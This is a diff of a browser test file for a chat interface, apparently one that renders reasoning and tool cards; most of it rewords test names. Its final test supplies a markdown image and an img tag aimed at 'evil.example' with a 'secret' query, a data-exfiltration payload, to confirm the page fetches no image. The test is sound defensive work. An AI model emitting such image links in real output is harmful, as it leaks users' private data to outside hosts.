@@ -15,7 +15,7 @@ const recent = (took?: number): ReasoningSegment => {
   return { ...segment, startedAt: NOON - 3000, ...(took !== undefined && { endedAt: NOON - 3000 + took }) }
 }
 
-/** Which triggers are open, by what they say. */
+/** The text of each trigger, and whether it is open. */
 const triggers = ({ page }: Performance) =>
   page.$$eval('[aria-expanded]', (nodes) =>
     nodes.map(
@@ -69,7 +69,7 @@ describeInBrowser('in a browser', () => {
       expect(await performance.page.locator('.mr-prose').textContent()).toBe('Done')
     }))
 
-  it('S0-116: a click wins for ever, over the end and over newer blocks', () =>
+  it('S0-116: a click takes precedence for ever, over the end and over newer blocks', () =>
     played(async (performance) => {
       const { page } = performance
       await performance.show(live(recent()))
@@ -83,7 +83,7 @@ describeInBrowser('in a browser', () => {
       expect(await triggers(performance)).toEqual(['Thought for 5s open'])
     }))
 
-  it('S0-116: a card that was opened stays open when it is folded with its neighbours', () =>
+  it('S0-116: a card that was opened stays open when it is grouped with its neighbours', () =>
     played(async (performance) => {
       const reads = [1, 2, 3].map((seq) => tool(seq, 'Read', { input: { path: `${seq}.ts` }, output: 'x' }))
       await performance.show(live(...reads.slice(0, 2)))
@@ -99,7 +99,7 @@ describeInBrowser('in a browser', () => {
       expect(await performance.page.evaluate(() => document.getAnimations().length)).toBe(0)
     }))
 
-  it('S0-112: seconds are counted while a thought lives, and settle to those of the data', () =>
+  it('S0-112: seconds are counted while a thought is live, and become those of the data at its end', () =>
     played(async (performance) => {
       const seconds = performance.page.locator('.mr-head .mr-time')
       await performance.show(live(recent()))
@@ -143,7 +143,7 @@ describeInBrowser('in a browser', () => {
       ])
     }))
 
-  it('asks nobody for a picture: it is a link', () =>
+  it('requests no image: it is a link', () =>
     played(async (performance) => {
       await performance.show([
         eventOf([text(1, '![x](https://evil.example/?q=secret) <img src="https://evil.example/2">')]),
